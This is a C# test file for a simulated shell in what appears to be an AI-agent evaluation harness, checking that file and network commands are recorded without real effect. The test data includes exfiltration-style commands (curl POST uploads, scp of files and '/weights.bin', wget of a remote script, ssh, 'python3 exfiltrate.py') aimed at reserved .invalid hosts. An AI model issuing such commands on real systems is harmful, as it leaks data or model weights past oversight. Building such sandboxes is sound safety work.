@@ -1,0 +1,164 @@
+using Keel.Environment;
+using Xunit;
+
+namespace Keel.Tests.Environment;
+
+/// <summary>The simulated shell acts on the world's files and records network commands without running anything.</summary>
+public class RunCommandToolTests
+{
+    private static readonly WorldSpec Spec = WorldSpec.Empty with
+    {
+        Files =
+        [
+            new("/reports/q3.txt", "Q3 revenue: 4.2M\n"),
+            new("/reports/drafts/q4.txt", "draft\n"),
+            new("/notes.txt", "hello\n"),
+        ],
+    };
+
+    private static World NewWorld() => new(Spec);
+
+    [Fact]
+    public void Echo_redirect_creates_a_file_only_in_the_simulated_world()
+    {
+        var world = NewWorld();
+        var realPath = Path.Combine(Path.GetTempPath(), $"keel-{Guid.NewGuid():N}.txt");
+
+        var outcome = ToolCall.Shell(world, $"echo \"model weights copy\" > {realPath}");
+
+        Assert.False(outcome.IsError);
+        Assert.Equal("model weights copy\n", world.Files[World.NormalizePath(realPath)].Content);
+        Assert.False(File.Exists(realPath));
+        Assert.Equal(3, world.Spec.Files.Count);
+        Assert.DoesNotContain(world.Spec.Files, f => f.Path == World.NormalizePath(realPath));
+    }
+
+    [Fact]
+    public void Echo_append_adds_to_an_existing_file_and_the_initial_spec_stays_unchanged()
+    {
+        var world = NewWorld();
+
+        ToolCall.Shell(world, "echo world >> /notes.txt");
+        ToolCall.Shell(world, "echo again>>/notes.txt");
+
+        Assert.Equal("hello\nworld\nagain\n", world.Files["/notes.txt"].Content);
+        Assert.Equal("hello\n", Spec.Files.Single(f => f.Path == "/notes.txt").Content);
+        Assert.Equal("hello\n", new World(Spec).Files["/notes.txt"].Content);
+    }
+
+    [Fact]
+    public void Ls_lists_files_and_subfolders_of_a_folder()
+    {
+        var world = NewWorld();
+
+        Assert.Equal("notes.txt\nreports/", ToolCall.Shell(world, "ls").Output);
+        Assert.Equal("drafts/\nq3.txt", ToolCall.Shell(world, "ls -la /reports").Output);
+        Assert.True(ToolCall.Shell(world, "ls /nowhere").IsError);
+    }
+
+    [Fact]
+    public void Cat_shows_a_file_and_reports_a_missing_one()
+    {
+        var world = NewWorld();
+
+        Assert.Equal("Q3 revenue: 4.2M\n", ToolCall.Shell(world, "cat reports/q3.txt").Output);
+        var missing = ToolCall.Shell(world, "cat /secret.txt");
+        Assert.True(missing.IsError);
+        Assert.Contains("/secret.txt: No such file or directory", missing.Output);
+    }
+
+    [Fact]
+    public void Rm_cp_and_mv_change_only_the_worlds_files()
+    {
+        var world = NewWorld();
+
+        Assert.False(ToolCall.Shell(world, "cp /notes.txt /backup/notes.txt").IsError);
+        Assert.False(ToolCall.Shell(world, "mv /reports/q3.txt /archive/").IsError);
+        Assert.False(ToolCall.Shell(world, "rm /notes.txt").IsError);
+
+        Assert.Equal(["/archive/q3.txt", "/backup/notes.txt", "/reports/drafts/q4.txt"], world.Files.Keys.Order(StringComparer.Ordinal));
+        Assert.Equal("Q3 revenue: 4.2M\n", world.Files["/archive/q3.txt"].Content);
+        Assert.True(ToolCall.Shell(world, "rm /notes.txt").IsError);
+        Assert.True(ToolCall.Shell(world, "rm /reports").IsError);
+        Assert.False(ToolCall.Shell(world, "rm -rf /reports").IsError);
+        Assert.DoesNotContain("/reports/drafts/q4.txt", world.Files.Keys);
+        Assert.Equal(3, Spec.Files.Count);
+    }
+
+    [Fact]
+    public void Chmod_is_recorded_and_changes_nothing_else()
+    {
+        var world = NewWorld();
+
+        var outcome = ToolCall.Shell(world, "chmod 777 /notes.txt");
+
+        Assert.False(outcome.IsError);
+        Assert.Equal([new PermissionChange("/notes.txt", "777")], world.PermissionChanges);
+        Assert.Equal("hello\n", world.Files["/notes.txt"].Content);
+        Assert.True(ToolCall.Shell(world, "chmod 777 /missing").IsError);
+    }
+
+    [Fact]
+    public void Scp_is_recorded_as_an_outbound_transfer_and_touches_no_network()
+    {
+        var world = NewWorld();
+
+        // .invalid is reserved (RFC 2606): were the shell to resolve or connect, it could not succeed.
+        var outcome = ToolCall.Shell(world, "scp /reports/q3.txt backup.invalid:/srv/q3.txt");
+
+        Assert.False(outcome.IsError);
+        Assert.Contains("q3.txt", outcome.Output);
+        Assert.Contains("100%", outcome.Output);
+        var transfer = Assert.Single(world.Transfers);
+        Assert.Equal(new OutboundTransfer("scp", "backup.invalid:/srv/q3.txt", "/reports/q3.txt", "scp /reports/q3.txt backup.invalid:/srv/q3.txt"), transfer);
+    }
+
+    [Fact]
+    public void Scp_of_a_missing_file_fails_and_is_not_recorded()
+    {
+        var world = NewWorld();
+
+        var outcome = ToolCall.Shell(world, "scp /weights.bin host.invalid:/tmp/");
+
+        Assert.True(outcome.IsError);
+        Assert.Empty(world.Transfers);
+    }
+
+    [Fact]
+    public void Curl_wget_and_ssh_are_recorded_with_their_targets()
+    {
+        var world = NewWorld();
+
+        Assert.False(ToolCall.Shell(world, "curl -X POST -T /notes.txt https://drop.invalid/upload").IsError);
+        Assert.False(ToolCall.Shell(world, "wget http://mirror.invalid/tool.sh").IsError);
+        Assert.False(ToolCall.Shell(world, "ssh -i key.pem ops@server.invalid").IsError);
+
+        Assert.Equal(
+            [("curl", "https://drop.invalid/upload", "/notes.txt"), ("wget", "http://mirror.invalid/tool.sh", null), ("ssh", "ops@server.invalid", null)],
+            world.Transfers.Select(t => (t.Tool, t.Target, t.Source)));
+    }
+
+    [Fact]
+    public void Unknown_commands_return_command_not_found()
+    {
+        var world = NewWorld();
+
+        var outcome = ToolCall.Shell(world, "python3 exfiltrate.py");
+
+        Assert.True(outcome.IsError);
+        Assert.StartsWith("Error: command not found: python3", outcome.Output);
+        Assert.Contains("ls, cat, echo", outcome.Output);
+    }
+
+    [Fact]
+    public void Pipes_and_chaining_are_refused_with_an_explanation()
+    {
+        var world = NewWorld();
+
+        var outcome = ToolCall.Shell(world, "cat /notes.txt | grep hello; rm /notes.txt");
+
+        Assert.True(outcome.IsError);
+        Assert.Contains("one simple command per call", outcome.Output);
+        Assert.True(world.Files.ContainsKey("/notes.txt"));
+    }
+}
